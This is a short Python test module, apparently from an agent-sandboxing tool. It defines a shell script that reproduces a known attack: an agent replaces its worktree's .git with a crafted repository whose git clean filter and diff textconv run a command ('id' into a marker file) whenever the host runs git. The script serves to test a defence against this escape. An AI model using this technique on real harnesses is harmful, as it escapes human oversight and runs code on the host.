"""The attack of issue 18: an agent replaces its worktree's ``.git`` with its own repository.

Its repository borrows the cache's objects (``objects/info/alternates``), has the base
commit as HEAD, and declares a clean filter that writes ``id`` to a marker file; its
``.gitattributes`` puts every file through that filter. Written as a POSIX shell script
so that the same attack runs directly on a worktree (integration tier) or inside a
sandbox whose uid owns the worktree (docker tier).
"""

from __future__ import annotations

ATTACK = r"""
set -e
cd "$1"; cache="$2"; base="$3"; marker="$4"
rm -rf .evil; mkdir -p .evil/objects/info .evil/refs/heads
echo "$cache/objects" > .evil/objects/info/alternates
echo "ref: refs/heads/main" > .evil/HEAD
echo "$base" > .evil/refs/heads/main
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n' > .evil/config
printf '[filter "evil"]\n\tclean = id > %s && cat\n\tsmudge = cat\n' "$marker" >> .evil/config
printf '[diff "evil"]\n\ttextconv = id > %s && cat\n' "$marker" >> .evil/config
rm -rf .git
mv .evil .git
echo '* filter=evil diff=evil' > .gitattributes
echo 'new work' > stolen.txt
"""
"""``sh -c ATTACK sh <worktree> <cache repository> <base commit> <marker path>``."""
